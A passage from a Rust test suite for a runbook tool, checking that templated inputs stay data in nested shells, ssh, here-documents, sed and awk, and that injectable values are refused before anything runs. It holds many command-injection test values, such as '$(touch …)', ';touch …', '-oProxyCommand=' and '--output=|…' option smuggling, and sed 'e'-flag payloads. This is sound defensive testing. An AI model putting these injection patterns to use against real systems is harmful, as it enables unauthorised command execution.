        ("piped-document-code", "cat <<'PY' | python3 - \"{{ inputs.v }}\" > \"$OUT/piped-document-code\"\nimport os, sys\nos.system(\"printf [%s] \" + sys.argv[1])\nPY".into()),
        ("procsub-copy", "svc=\"{{ inputs.v }}\"\ncat < <(eval \"printf '[%s]' $svc\") > \"$OUT/procsub-copy\"".into()),
        ("ssh-o-value", r#"ssh -o "{{ inputs.v }}" -o BatchMode=yes rbtest-none true 2>/dev/null; printf '[x]' > "$OUT/ssh-o-value""#.into()),
        ("git-c-value", r#"git -c "{{ inputs.v }}" --version > /dev/null; printf '[x]' > "$OUT/git-c-value""#.into()),
        ("status-copy", "check() { sh -c \"printf '[%s]' $1\"; }\nsvc=\"{{ inputs.v }}\"\nstatus=$(check \"$svc\")\nprintf '%s' \"$status\" > \"$OUT/status-copy\"".into()),
        ("read-d-name", "name=svc\nx=\"{{ inputs.v }}\"\nread -r -d , \"$name\" <<< \"$x,\"\neval \"printf '[%s]' $svc\" > \"$OUT/read-d-name\"".into()),
        ("fd3-hosts", "x=\"{{ inputs.v }}\"\nwhile read -r -u3 h; do git clone -q \"$h\" \"$OUT/c\" 2>/dev/null || true; done 3<<< \"$x\"\nprintf '[x]' > \"$OUT/fd3-hosts\"".into()),
    ]
}

/// A value read line by line into a variable that stands where options are read: every
/// line is checked, not only the first; a plain list of hosts still runs.
#[test]
fn every_line_of_a_value_read_where_options_are_read_is_checked() {
    let steps: Vec<(&str, String)> = refused_steps()
        .into_iter()
        .filter(|(id, _)| {
            [
                "copy-pipe-loop",
                "function-loop",
                "cat-heredoc-loop",
                "file-loop-option",
            ]
            .contains(id)
        })
        .collect();
    assert_eq!(steps.len(), 4);
    for (id, run) in &steps {
        let (o, out, _, _t) = run_one(id, run, "web-1\n-uhost");
        assert_ne!(o.code, 0, "{id}: a second line `-uhost` was not refused");
        assert!(!out.join(id).exists(), "{id} ran before the refusal");
        assert!(
            o.stderr.contains("must be plain words"),
            "{id}: {}",
            o.stderr
        );
        let (o, out, _, _t) = run_one(id, run, "web-1\nweb-2");
        assert_eq!(o.code, 0, "{id} refused a plain host list: {}", o.stderr);
        assert!(out.join(id).exists(), "{id} did not run");
    }
}

/// The floor (`shell::unseen`): a new line ends a command in a re-parsed string, so plain
/// words on two lines are no proof; a list split on `,` is checked piece by piece; a value
/// copied into arithmetic may not hold a subscript; plain words that the script decodes are
/// no proof either. Each is refused where the flow model does not follow the value, and the
/// same scripts run with plain values.
#[test]
fn the_floor_refuses_what_plain_words_would_hide() {
    let cases = [
        (
            "nameref-lines",
            "rs() { local -n r=$1; sh -c \"printf '[%s]' $r\"; }\nsvc=\"{{ inputs.v }}\"\nrs svc > \"$OUT/nameref-lines\"",
            "nginx\ntouch {m}/1",
            "nginx",
        ),
        (
            "comma-hosts",
            "echo \"{{ inputs.v }}\" | tr , '\\n' | while read -r h; do git clone -q \"$h\" \"$OUT/c\" 2>/dev/null || true; done\nprintf '[x]' > \"$OUT/comma-hosts\"",
            "web-1,-uhost",
            "web-1,web-2",
        ),
        (
            "decoded",
            "base64 -d <<< \"{{ inputs.v }}\" | while read -r s; do sh -c \"printf '[%s]' $s\"; done > \"$OUT/decoded\"",
            "JCh0b3VjaCB7bX0vMik=",
            "",
        ),
        (
            "read-unquoted",
            "hosts=\"{{ inputs.v }}\"\necho \"$hosts\" | while read -r h; do git clone -q $h \"$OUT/c\" 2>/dev/null || true; done\nprintf '[x]' > \"$OUT/read-unquoted\"",
            "web-1 touch",
            "web-1\nweb-2",
        ),
        (
            "carrier",
            "echo \"{{ inputs.v }}\" > /dev/null\nsh -c \"printf '[%s]' $RUNBOOK_VALUE_1\" > \"$OUT/carrier\"",
            "x;touch {m}/4",
            "nginx",
        ),
        (
            "command-output",
            "ln -sfn \"/srv/{{ inputs.v }}\" \"$OUT/cur\"\nsh -c \"printf '[%s]' $(readlink \"$OUT/cur\")\" > \"$OUT/command-output\"",
            "x;touch {m}/3",
            "v1.2",
        ),
    ];
    for (id, run, bad, good) in cases {
        let (o, out, created, _t) = run_one(id, run, bad);
        assert!(created.is_empty(), "{id} ran code: {}", o.stderr);
        assert!(!out.join(id).exists(), "{id} ran: {}", o.stderr);
        // (A step that refuses every value is a lint error, RB031, said before the run
        // starts: audit 25 LINT-2.)
        assert!(
            o.stderr.contains("is refused here")
                || (good.is_empty() && o.stderr.contains("error[RB031]")),
            "{id}: {}",
            o.stderr
        );
        if !good.is_empty() {
            let (o, out, _, _t) = run_one(id, run, good);
            assert_eq!(o.code, 0, "{id} refused {good:?}: {}", o.stderr);
            assert!(out.join(id).exists(), "{id} did not run");
        }
    }
}

/// A helper's output captured (`status=$(check "{{ v }}")`) is not the value changed: a
/// plain value runs (it was an RB031 error for every value), the helper's `$1` reaching a
/// re-parsed string still asks for one plain word, and a copy given to it is floored.
#[test]
fn a_helpers_captured_output_is_not_the_value() {
    for (run, value, runs) in [
        (
            "check() { sh -c \"printf '[%s]' $1\"; }\nstatus=$(check \"{{ inputs.v }}\")\nprintf '%s' \"$status\" > \"$OUT/a\"",
            "web-1",
            true,
        ),
        (
            "check() { sh -c \"printf '[%s]' $1\"; }\nstatus=$(check \"{{ inputs.v }}\")\nprintf '%s' \"$status\" > \"$OUT/a\"",
            "x;touch {m}/1",
            false,
        ),
        (
            "check() { sh -c \"printf '[%s]' $1\"; }\nsvc=\"{{ inputs.v }}\"\nstatus=$(check \"$svc\")\nprintf '%s' \"$status\" > \"$OUT/a\"",
            "x;touch {m}/2",
            false,
        ),
        (
            "check() { sh -c \"printf '[%s]' $1\"; }\nsvc=\"{{ inputs.v }}\"\nif [ \"$(check \"$svc\")\" = x ]; then :; fi\nprintf x > \"$OUT/a\"",
            "x;touch {m}/3",
            false,
        ),
    ] {
        let (o, out, created, _t) = run_one("a", run, value);
        assert!(
            created.is_empty(),
            "{run} with {value:?} ran code: {}",
            o.stderr
        );
        assert_eq!(
            out.join("a").exists(),
            runs,
            "{run} with {value:?}: {}",
            o.stderr
        );
        if runs {
            assert_eq!(std::fs::read_to_string(out.join("a")).unwrap(), "[web-1]");
        }
    }
}

/// An environment value copied into arithmetic (`retries=${V:-3}`) may not hold `[`.
#[test]
fn an_environment_value_copied_into_arithmetic_is_checked() {
    let rb = format!(
        "title: Env\n{HEAD}inputs:\n  v: {{description: v, env: V}}\nsteps:\n  - id: a\n    title: A\n    run: |\n      retries=${{V:-3}}\n      for ((i=1; i<=retries; i++)); do :; done\n      printf '[x]' > \"$OUT/a\"\n"
    );
    for (value, runs) in [("5", true), ("a[$(touch mark)]", false)] {
        let (o, out, _, t) = run_runbook(&rb, value);
        assert_eq!(out.join("a").exists(), runs, "{value:?}: {}", o.stderr);
        assert!(!t.path("runbooks/mark").exists(), "{value:?} ran code");
    }
}

/// A step's `dir:` written by a template puts the value in `$PWD`: a string another shell
/// parses again that expands it gets it checked like an environment value.
#[test]
fn a_templated_dir_is_a_value_in_pwd() {
    let rb = format!(
        "title: Dir\n{HEAD}inputs:\n  v: {{description: v}}\nsteps:\n  - id: make\n    title: Make\n    run: mkdir -p \"w/{{{{ inputs.v }}}}\"\n  - id: a\n    title: A\n    dir: \"w/{{{{ inputs.v }}}}\"\n    run: |\n      sh -c \"ls $PWD\" > /dev/null\n      printf '[x]' > \"$OUT/a\"\n"
    );
    for (value, runs) in [("incident-42", true), ("x;touch mark", false)] {
        let (o, out, _, t) = run_runbook(&rb, value);
        assert_eq!(out.join("a").exists(), runs, "{value:?}: {}", o.stderr);
        assert!(
            !t.path("runbooks/w/x;touch mark/mark").exists(),
            "{value:?} ran code"
        );
        if !runs {
            assert!(o.stderr.contains("`$PWD`"), "{}", o.stderr);
        }
    }
}

/// The same through the step's environment: an input's `env:` piped into a loop.
#[test]
fn every_line_of_an_environment_value_read_where_options_are_read_is_checked() {
    let rb = format!(
        "title: Env\n{HEAD}inputs:\n  v: {{description: v, env: NV}}\nsteps:\n  - id: a\n    title: A\n    run: |\n      echo \"$NV\" | while read -r h; do git clone -q \"$h\" \"$OUT/c\" 2>/dev/null || true; done\n      printf '[x]' > \"$OUT/a\"\n"
    );
    for (value, runs) in [("web-1\nweb-2", true), ("web-1\n-uhost", false)] {
        let (o, out, _, _t) = run_runbook(&rb, value);
        assert_eq!(out.join("a").exists(), runs, "{value:?}: {}", o.stderr);
        if !runs {
            assert!(
                o.stderr.contains("`$NV` is split into words or lines"),
                "{}",
                o.stderr
            );
        }
    }
}

fn ssh_steps(cfg: &str) -> Vec<(&'static str, String)> {
    vec![
        (
            "ssh",
            format!(r#"ssh -F {cfg} rbtest "printf '[%s]' {{{{ inputs.v }}}}" > "$OUT/ssh""#),
        ),
        (
            "ssh-words",
            format!(r#"ssh -F {cfg} rbtest printf "'[%s]'" {{{{ inputs.v }}}} > "$OUT/ssh-words""#),
        ),
        (
            "ssh-sh-c",
            format!(
                r#"ssh -F {cfg} rbtest "sh -c 'printf \"[%s]\" {{{{ inputs.v }}}}'" > "$OUT/ssh-sh-c""#
            ),
        ),
        (
            "ssh-ssh",
            format!(
                r#"ssh -F {cfg} rbtest "ssh -F {cfg} rbtest 'printf \"[%s]\" {{{{ inputs.v }}}}'" > "$OUT/ssh-ssh""#
            ),
        ),
        (
            "sh-c-ssh",
            format!(
                r#"sh -c "ssh -F {cfg} rbtest 'printf \"[%s]\" {{{{ inputs.v }}}}'" > "$OUT/sh-c-ssh""#
            ),
        ),
    ]
}

fn heredoc_steps(cfg: &str) -> Vec<(&'static str, String)> {
    vec![
        (
            "bash-heredoc",
            "bash > \"$OUT/bash-heredoc\" <<EOF\nprintf '[%s]' {{ inputs.v }}\nEOF".into(),
        ),
        (
            "ssh-heredoc",
            format!(
                "ssh -F {cfg} rbtest > \"$OUT/ssh-heredoc\" <<EOF\nprintf '[%s]' {{{{ inputs.v }}}}\nEOF"
            ),
        ),
        (
            "ssh-quoted-heredoc",
            format!(
                "ssh -F {cfg} rbtest bash -s > \"$OUT/ssh-quoted-heredoc\" <<'EOF'\nprintf '[%s]' {{{{ inputs.v }}}}\nEOF"
            ),
        ),
        ("sh-dash", "sh - > \"$OUT/sh-dash\" <<EOF\nprintf '[%s]' {{ inputs.v }}\nEOF".into()),
        ("dev-stdin", ". /dev/stdin > \"$OUT/dev-stdin\" <<EOF\nprintf '[%s]' {{ inputs.v }}\nEOF".into()),
        ("tee-pipe", "cat <<EOF | tee /dev/null | bash > \"$OUT/tee-pipe\"\nprintf '[%s]' {{ inputs.v }}\nEOF".into()),
        // Seventh audit: a script written by a here-document, then run (quoted into it).
        ("file-run", "cat > \"$OUT/fix.sh\" <<EOT\nprintf '[%s]' {{ inputs.v }} > \"$OUT/file-run\"\nEOT\nbash \"$OUT/fix.sh\"".into()),
        ("file-run-quoted", "cat <<'EOT' > \"$OUT/fix2.sh\"\nprintf '[%s]' {{ inputs.v }} > \"$OUT/file-run-quoted\"\nEOT\n. \"$OUT/fix2.sh\"".into()),
    ]
}

fn runbook_of(steps: &[(&str, String)]) -> String {
    let mut text =
        format!("title: Nested\n{HEAD}inputs:\n  v: {{description: the value}}\nsteps:\n");
    for (id, run) in steps {
        let block: String = run.lines().map(|l| format!("      {l}\n")).collect();
        text.push_str(&format!(
            "  - id: {id}\n    title: {id}\n    readonly: true\n    run: |\n{block}"
        ));
    }
    text
}

/// Runs `steps` with `value` and checks that each printed exactly `[value]`.
fn check(steps: &[(&str, String)], value: &str) {
    let (o, out_dir, created, t) = run_runbook(&runbook_of(steps), value);
    let value = value.replace("{m}", t.path("marks").to_str().unwrap());
    o.code(0);
    for (id, _) in steps {
        let printed = std::fs::read_to_string(out_dir.join(id)).unwrap_or_default();
        assert_eq!(
            printed,
            format!("[{value}]"),
            "step {id} with {value:?}\n{}",
            o.stderr
        );
    }
    assert!(created.is_empty(), "{value:?} ran code: {created:?}");
}

/// Runs the one step `run` with `value` (`{m}` is the marker folder): what it said, its
/// `$OUT` folder, the markers the value created (none, if it stayed data), and the test's
/// folder (removed when dropped).
fn run_one(
    id: &str,
    run: &str,
    value: &str,
) -> (common::Output, std::path::PathBuf, Vec<String>, Test) {
    run_runbook(&runbook_of(&[(id, run.to_string())]), value)
}

/// [`run_one`] for a whole runbook.
fn run_runbook(rb: &str, value: &str) -> (common::Output, std::path::PathBuf, Vec<String>, Test) {
    let t = Test::new().file("runbooks/rb.yaml", rb);
    let marks = t.path("marks");
    let out = t.path("out");
    std::fs::create_dir_all(&out).unwrap();
    std::fs::create_dir_all(&marks).unwrap();
    let value = value.replace("{m}", marks.to_str().unwrap());
    let t = t.env("OUT", out.to_str().unwrap());
    let o = t.exec(&["run", "rb", "--yes", "--input", &format!("v={value}")]);
    let created = std::fs::read_dir(&marks)
        .unwrap()
        .flatten()
        .map(|e| e.path().display().to_string())
        .collect();
    (o, out, created, t)
}

#[test]
fn values_are_data_in_nested_shells() {
    for value in hostile("{m}") {
        check(&local_steps(), &value);
    }
}

#[test]
fn values_that_would_become_code_again_are_refused_before_anything_runs() {
    let values = [
        "$(touch {m}/1)",
        "a[$(touch {m}/2)]",
        "a'; touch {m}/3; echo '",
        "-Stouch {m}/4",
    ];
    for (id, run) in refused_steps() {
        for value in values {
            let (o, out, created, _t) = run_one(id, &run, value);
            assert!(
                created.is_empty(),
                "{id} with {value:?} ran code: {}",
                o.stderr
            );
            // Refused before the step's first command. (After `env`, only a value that
            // starts with `-` is refused; the others name the program `env` runs.)
            // Some keep the value data instead (`compgen -W` as its words, git's commands
            // and tmux's in a program that may be missing here): no marker is what counts.
            let data_ok = [
                "compgen",
                "git-ssh",
                "git-alias",
                "tmux-d",
                "su-heredoc",
                "install-stdin",
            ]
            .contains(&id);
            let dash_only = [
                "env-option",
                "option-copy",
                "for-positional",
                "getopts",
                "fd3-hosts",
            ]
            .contains(&id);
            if (!dash_only || value.starts_with('-')) && !data_ok {
                assert_ne!(
                    o.code, 0,
                    "{id} with {value:?} was not refused: {}",
                    o.stderr
                );
                assert!(
                    !out.join(id).exists(),
                    "{id} with {value:?} ran before the refusal"
                );
                assert!(
                    o.stderr.contains("cannot render the command")
                        || o.stderr.contains("cannot be given")
                        || o.stderr.contains("error[RB031]"),
                    "{id} with {value:?}: {}",
                    o.stderr
                );
            }
        }
    }
}

#[test]
fn values_are_data_through_ssh() {
    let Some(sshd) = Sshd::start() else {
        return;
    };
    let cfg = sshd.config();
    let cfg = cfg.to_str().unwrap();
    for value in hostile("{m}") {
        check(&ssh_steps(cfg), &value);
        if !value.contains('\n') {
            check(&heredoc_steps(cfg), &value);
        }
    }
}

/// A list on several lines (a captured `pgrep` output, pasted ids) read line by line or
/// split by a `for` into an ssh string: each word arrives as a word (an audit found every
/// such list refused); a line that is not plain words is refused before anything runs, and
/// plain words that look like a command stay words.
#[test]
fn a_list_on_several_lines_reaches_an_ssh_string_word_by_word() {
    let Some(sshd) = Sshd::start() else {
        return;
    };
    let cfg = sshd.config();
    let cfg = cfg.to_str().unwrap();
    let steps = [
        (
            "herestring",
            format!(
                "while read -r p; do ssh -n -F {cfg} rbtest \"printf '[%s]' $p\"; done <<< \"{{{{ inputs.v }}}}\" > \"$OUT/herestring\""
            ),
        ),
        (
            "pipe",
            format!(
                "echo \"{{{{ inputs.v }}}}\" | while read -r p; do ssh -n -F {cfg} rbtest \"printf '[%s]' $p\"; done > \"$OUT/pipe\""
            ),
        ),
        (
            "for",
            format!(
                "pids=\"{{{{ inputs.v }}}}\"\nfor p in $pids; do ssh -n -F {cfg} rbtest \"printf '[%s]' $p\" >> \"$OUT/for\"; done"
            ),
        ),
        (
            "heredoc",
            format!(
                "while read -r p; do ssh -n -F {cfg} rbtest \"printf '[%s]' $p\"; done > \"$OUT/heredoc\" <<EOT\n{{{{ inputs.v }}}}\nEOT"
            ),
        ),
    ];
    for (id, run) in &steps {
        let (o, out, created, _t) = run_one(id, run, "123\n456");
        assert_eq!(o.code, 0, "{id} refused a list of ids: {}", o.stderr);
        let printed = std::fs::read_to_string(out.join(id)).unwrap_or_default();
        assert_eq!(printed, "[123][456]", "{id}: {}", o.stderr);
        assert!(created.is_empty());
        // Split by `for`, plain words that read like a command are words on the other side;
        // a line read whole must be one word (at `eval "$p"` it would name a program and its
        // arguments).
        let (o, out, created, t) = run_one(id, run, "123\ntouch {m}/1");
        if *id == "for" {
            assert_eq!(o.code, 0, "{id}: {}", o.stderr);
            let printed = std::fs::read_to_string(out.join(id)).unwrap_or_default();
            let marks = t.path("marks");
            assert_eq!(
                printed,
                format!("[123][touch][{}/1]", marks.display()),
                "{id}: {}",
                o.stderr
            );
        } else {
            assert_ne!(o.code, 0, "{id} ran a line of two words");
            assert!(
                o.stderr.contains("must be one plain word on each line"),
                "{id}: {}",
                o.stderr
            );
            assert!(!out.join(id).exists(), "{id} ran");
        }
        assert!(created.is_empty(), "{id} ran code: {created:?}");
        for bad in [
            "123\nx;touch {m}/2",
            "$(touch {m}/3)",
            "123\n-oProxyCommand=touch",
        ] {
            let (o, out, created, _t) = run_one(id, run, bad);
            assert_ne!(o.code, 0, "{id} ran {bad:?}");
            assert!(created.is_empty(), "{id} ran code with {bad:?}");
            assert!(!out.join(id).exists(), "{id} ran with {bad:?}");
            assert!(o.stderr.contains("plain word"), "{id}: {}", o.stderr);
        }
    }
}

/// A value copied (or given in the environment) into sed's code written in double quotes:
/// a `/` there ends the `s` command, whose `e` flag runs the line as a shell command (an
/// audit ran it through the copy, which the direct spelling guarded); a version still runs.
#[test]
fn a_value_spliced_into_sed_through_a_copy_or_the_environment_is_checked() {
    let copy = "V=\"{{ inputs.v }}\"\nprintf 'version=1\\n' > \"$OUT/app.conf\"\nsed -i \"s/^version=.*/version=$V/\" \"$OUT/app.conf\"\ncp \"$OUT/app.conf\" \"$OUT/sed-copy\"";
    let env = format!(
        "title: Env\n{HEAD}inputs:\n  v: {{description: v, env: V}}\nsteps:\n  - id: sed-env\n    title: A\n    run: |\n      printf 'version=1\\n' > \"$OUT/app.conf\"\n      sed -i \"s/^version=.*/version=$V/\" \"$OUT/app.conf\"\n      cp \"$OUT/app.conf\" \"$OUT/sed-env\"\n"
    );
    for value in ["x;touch rbpwned/e;#", "reboot/e", "a\\nb"] {
        let (o, out, _, t) = run_one("sed-copy", copy, value);
        assert_ne!(o.code, 0, "{value:?} ran");
        assert!(!out.join("sed-copy").exists(), "{value:?}: {}", o.stderr);
        assert!(!t.path("rbpwned").exists());
        assert!(o.stderr.contains("sed or awk"), "{}", o.stderr);
        let (o, out, _, _t) = run_runbook(&env, value);
        assert_ne!(o.code, 0, "{value:?} ran");
        assert!(!out.join("sed-env").exists(), "{value:?}: {}", o.stderr);
        assert!(o.stderr.contains("sed or awk"), "{}", o.stderr);
    }
    let (o, out, _, _t) = run_one("sed-copy", copy, "1.2.3 beta");
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert_eq!(
        std::fs::read_to_string(out.join("sed-copy")).unwrap(),
        "version=1.2.3 beta\n"
    );
}

#[test]
fn a_value_that_cannot_be_carried_is_refused_before_anything_runs() {
    let Some(sshd) = Sshd::start() else {
        return;
    };
    let cfg = sshd.config();
    let cfg = cfg.to_str().unwrap();
    for (id, run) in heredoc_steps(cfg)
        .into_iter()
        .filter(|(id, _)| id.starts_with("ssh") || id.starts_with("file"))
    {
        let t = Test::new().file("runbooks/rb.yaml", &runbook_of(&[(id, run)]));
        let marks = t.path("marks");
        std::fs::create_dir_all(t.path("out")).unwrap();
        std::fs::create_dir_all(&marks).unwrap();
        let value = format!("x\nEOF\ntouch {}/1", marks.display());
        let out = t.path("out");
        let t = t.env("OUT", out.to_str().unwrap());
        let o = t.exec(&["run", "rb", "--yes", "--input", &format!("v={value}")]);
        assert_ne!(o.code, 0, "{id}: {}", o.stderr);
        assert!(o.stderr.contains("holds a new line"), "{id}: {}", o.stderr);
        assert!(!t.path("out").join(id).exists(), "{id} ran");
        assert_eq!(
            std::fs::read_dir(&marks).unwrap().count(),
            0,
            "{id} ran code"
        );
    }
}

/// An input's environment variable, or a step's `env:` from a template, expanded inside a
/// string another shell parses again: the value must be one plain word there.
#[test]
fn values_in_the_environment_of_a_reparsed_string_are_plain_words() {
    let rb = format!(
        "title: Env\n{HEAD}inputs:\n  v: {{description: v, env: NV}}\nsteps:\n  - id: a\n    title: A\n    on_failure: continue\n    run: |\n      sh -c \"printf '[%s]' $NV\" > \"$OUT/a\"\n  - id: b\n    title: B\n    env: {{C: \"printf '[%s]' {{{{ inputs.v }}}}\"}}\n    run: |\n      eval \"$C\" > \"$OUT/b\"\n"
    );
    for (value, ok) in [
        ("db-1.example", true),
        ("$(touch {m}/1)", false),
        ("a;touch {m}/2", false),
    ] {
        let (o, out, created, _t) = run_runbook(&rb, value);
        assert!(created.is_empty(), "{value:?} ran code");
        assert_ne!(o.code, 0);
        // `$C` holds code with a value in it: refused whatever the value.
        assert!(
            o.stderr.contains("`$C` is expanded inside a string"),
            "{}",
            o.stderr
        );
        assert!(!out.join("b").exists());
        if ok {
            assert_eq!(
                std::fs::read_to_string(out.join("a")).unwrap(),
                format!("[{value}]")
            );
        } else {
            assert!(
                o.stderr.contains("`$NV` is expanded inside a string"),
                "{}",
                o.stderr
            );
            assert!(!out.join("a").exists());
        }
    }
}

#[test]
fn environment_values_split_into_a_command_or_read_as_options_are_refused() {
    let rb = format!(
        "title: Env\n{HEAD}inputs:\n  v: {{description: v, env: NV}}\nsteps:\n  - id: a\n    title: A\n    on_failure: continue\n    run: |\n      timeout 5 $NV 2>/dev/null || true; printf '[%s]' \"$NV\" > \"$OUT/a\"\n  - id: b\n    title: B\n    run: |\n      git clone -q \"$NV\" \"$OUT/clone\" 2>/dev/null || true; printf '[%s]' \"$NV\" > \"$OUT/b\"\n"
    );
    for (value, a, b) in [
        ("true", true, true),
        ("sh -c touch", false, true),
        ("-uhost", false, false),
    ] {
        let (o, out, _, _t) = run_runbook(&rb, value);
        assert_eq!(out.join("a").exists(), a, "{value}: {}", o.stderr);
        assert_eq!(out.join("b").exists(), b, "{value}: {}", o.stderr);
        if !a {
            assert!(
                o.stderr.contains("`$NV` is split into the words"),
                "{}",
                o.stderr
            );
        }
        if !b {
            assert!(
                o.stderr.contains("its value starts with `-`"),
                "{}",
                o.stderr
            );
        }
    }
}

/// The fifth audit: a value that starts an argument of any program (not only of those
/// runbook knows) may not start with `-` unless `--` stands before it: `psql
/// --output='|cmd'` runs a command, `kubectl delete pod --all` deletes every pod.
#[test]
fn a_value_read_as_an_option_by_any_program_is_refused() {
    for run in [
        r#"psql {{ inputs.v }} -Atc "select 1""#,
        "kubectl get pod {{ inputs.v }}",
        r#"sudo -n systemctl status "{{ inputs.v }}""#,
        "python3 {{ inputs.v }}",
    ] {
        let t = Test::new().file("runbooks/rb.yaml", &runbook_of(&[("s", run.to_string())]));
        let marks = t.path("marks");
        std::fs::create_dir_all(&marks).unwrap();
        let value = format!("--output=|touch {}/1", marks.display());
        let o = t.exec(&["run", "rb", "--yes", "--input", &format!("v={value}")]);
        assert_ne!(o.code, 0, "{run}: {}", o.stderr);
        assert!(o.stderr.contains("starts with `-`"), "{run}: {}", o.stderr);
        assert_eq!(std::fs::read_dir(&marks).unwrap().count(), 0, "{run}");
    }
    // After `--`, the same value is an operand, and runs as one.
    let t = Test::new().file(
        "runbooks/rb.yaml",
        &runbook_of(&[(
            "s",
            r#"printf '[%s]' -- {{ inputs.v }} > "$OUT/s""#.to_string(),
        )]),
    );
    let out = t.path("out");
    std::fs::create_dir_all(&out).unwrap();
    let t = t.env("OUT", out.to_str().unwrap());
    t.exec(&["run", "rb", "--yes", "--input", "v=-n"]).code(0);
    assert_eq!(std::fs::read_to_string(out.join("s")).unwrap(), "[--][-n]");
}

/// `${x@Q}` and `printf %q` write a new line as `$'…'`, which `sh` (dash) reads as `$` and a
/// quoted string: a value with a new line and a quote broke out there. Such a value is
/// refused before anything runs; a printable one arrives as written, through `sh -c` and a
/// real sshd; `bash -c` reads `$'…'` and takes any value.
#[test]
fn values_quoted_by_at_q_or_printf_q_for_sh_are_printable_or_refused() {
    let Some(sshd) = Sshd::start() else {
        return;
    };
    let cfg = sshd.config();
    let cfg = cfg.to_str().unwrap();
    let posix: Vec<(&str, String)> = vec![
        (
            "q-sh",
            r#"x="{{ inputs.v }}"; sh -c "printf '[%s]' ${x@Q}" > "$OUT/q-sh""#.into(),
        ),
        (
            "printf-q-sh",
            r#"sh -c "printf '[%s]' $(printf %q "{{ inputs.v }}")" > "$OUT/printf-q-sh""#.into(),
        ),
        (
            "q-ssh",
            format!(
                r#"x="{{{{ inputs.v }}}}"; ssh -F {cfg} rbtest "printf '[%s]' ${{x@Q}}" > "$OUT/q-ssh""#
            ),
        ),
    ];
    check(
        &posix,
        "a plain 'quoted' value; with $(touch {m}/1) and `touch {m}/2`",
    );
    let bash = vec![(
        "q-bash",
        r#"x="{{ inputs.v }}"; bash -c "printf '[%s]' ${x@Q}" > "$OUT/q-bash""#.to_string(),
    )];
    check(&bash, "a'\n;touch {m}/1;'");
    for (id, run) in posix.iter().cloned().chain([(
        "env-q",
        "sh -c \"printf '[%s]' ${V@Q}\" > \"$OUT/env-q\"".to_string(),
    )]) {
        let mut text = runbook_of(&[(id, run)]);
        text = text.replace("steps:\n", "env:\n  V: \"{{ inputs.v }}\"\nsteps:\n");
        let t = Test::new().file("runbooks/rb.yaml", &text);
        let marks = t.path("marks");
        std::fs::create_dir_all(t.path("out")).unwrap();
        std::fs::create_dir_all(&marks).unwrap();
        let value = format!("a'\n;touch {}/1;'", marks.display());
        let out = t.path("out");
        let t = t.env("OUT", out.to_str().unwrap());
        let o = t.exec(&["run", "rb", "--yes", "--input", &format!("v={value}")]);
        assert_ne!(o.code, 0, "{id}: {}", o.stderr);
        assert!(o.stderr.contains("$'…'"), "{id}: {}", o.stderr);
        assert!(!out.join(id).exists(), "{id} ran");
        assert_eq!(
            std::fs::read_dir(&marks).unwrap().count(),
            0,
            "{id} ran code"
        );
    }
}

/// A value that starts with `-` where no program reads it as an option (inside a word, after
/// `--`, in `case` and `[[ ]]`, as the argument of an option known to take one) is data, not
/// refused (seventh audit: false refusals).
#[test]
fn a_value_starting_with_a_dash_where_no_option_is_read_is_data() {
    let steps: Vec<(&str, String)> = vec![
        ("in-word", r#"printf '[%s]' "$(basename "/x/y{{ inputs.v }}" | cut -c2-)" > "$OUT/in-word""#.into()),
        ("case", r#"case "{{ inputs.v }}" in -*) printf '[%s]' "{{ inputs.v }}" > "$OUT/case";; esac"#.into()),
        ("dbl-bracket", r#"[[ "{{ inputs.v }}" == -* ]] && printf '[%s]' "{{ inputs.v }}" > "$OUT/dbl-bracket""#.into()),
        ("date-d", r#"date -d "{{ inputs.v }}" +%s > /dev/null && printf '[%s]' "{{ inputs.v }}" > "$OUT/date-d""#.into()),
        ("find-name", r#"find /dev/null -name "*{{ inputs.v }}*" && printf '[%s]' "{{ inputs.v }}" > "$OUT/find-name""#.into()),
        ("after-dashdash", r#"ls -d -- "{{ inputs.v }}" 2>/dev/null || true; printf '[%s]' "{{ inputs.v }}" > "$OUT/after-dashdash""#.into()),
    ];
    check(&steps, "-1 hour");
    // The argument of an option known to take one (`head -n -5`: all but the last five).
    let counts: Vec<(&str, String)> = vec![
        ("head-n", r#"head -n "{{ inputs.v }}" /dev/null && printf '[%s]' "{{ inputs.v }}" > "$OUT/head-n""#.into()),
        ("tail-n", r#"tail -n "{{ inputs.v }}" /dev/null && printf '[%s]' "{{ inputs.v }}" > "$OUT/tail-n""#.into()),
        ("nice-n", r#"nice -n "{{ inputs.v }}" true 2>/dev/null; printf '[%s]' "{{ inputs.v }}" > "$OUT/nice-n""#.into()),
    ];
    check(&counts, "-5");
    // The same value where a program reads options is still refused.
    let t = Test::new().file(
        "runbooks/rb.yaml",
        &runbook_of(&[("operand", r#"ls "{{ inputs.v }}""#.to_string())]),
    );
    let o = t.exec(&["run", "rb", "--yes", "--input", "v=-1 hour"]);
    assert_ne!(o.code, 0);
    assert!(o.stderr.contains("starts with `-`"), "{}", o.stderr);
}

/// A list `shell` behind `env` is the shell it names (values pass as data); a shell whose
/// grammar runbook does not know refuses a `{{ }}` value at lint, as the run does.
#[test]
fn a_shell_behind_env_takes_values_and_an_unknown_one_is_refused_at_lint() {
    let runbook = |shell: &str, run: &str| {
        format!(
            "title: S\n{HEAD}inputs:\n  v: {{description: v}}\nshell: {shell}\nsteps:\n  - id: s\n    title: s\n    run: {run}\n"
        )
    };
    let t = Test::new().file(
        "runbooks/rb.yaml",
        &runbook(
            "[/usr/bin/env, bash, -c]",
            r#"printf '[%s]' "{{ inputs.v }}" > "$OUT/s""#,
        ),
    );
    let out = t.path("out");
    std::fs::create_dir_all(&out).unwrap();
    let t = t.env("OUT", out.to_str().unwrap());
    t.exec(&["lint", "runbooks/rb.yaml"]).code(0);
    let value = "a'b\"c $(touch x) `y`";
    t.exec(&["run", "rb", "--yes", "--input", &format!("v={value}")])
        .code(0);
    assert_eq!(
        std::fs::read_to_string(out.join("s")).unwrap(),
        format!("[{value}]")
    );
    for shell in ["[python3, -c]", "[/usr/bin/env, -i, bash, -c]"] {
        let t = Test::new().file(
            "runbooks/rb.yaml",
            &runbook(shell, r#"print("{{ inputs.v }}")"#),
        );
        let lint = t.exec(&["lint", "runbooks/rb.yaml"]);
        assert_ne!(lint.code, 0, "{shell}");
        assert!(
            lint.stdout.contains("error[RB031]") && lint.stdout.contains("not a POSIX shell"),
            "{shell}: {}",
            lint.stdout
        );
    }
}

/// sed and awk run shell commands from their code (`e`, `s///e`, `system()`): a value spliced
/// into it is data only until what ends the command or string holding it, and is refused
/// with it before anything runs; other values arrive as written.
#[test]
fn a_value_that_would_end_its_sed_command_or_awk_string_is_refused() {
    let steps: Vec<(&str, String)> = vec![
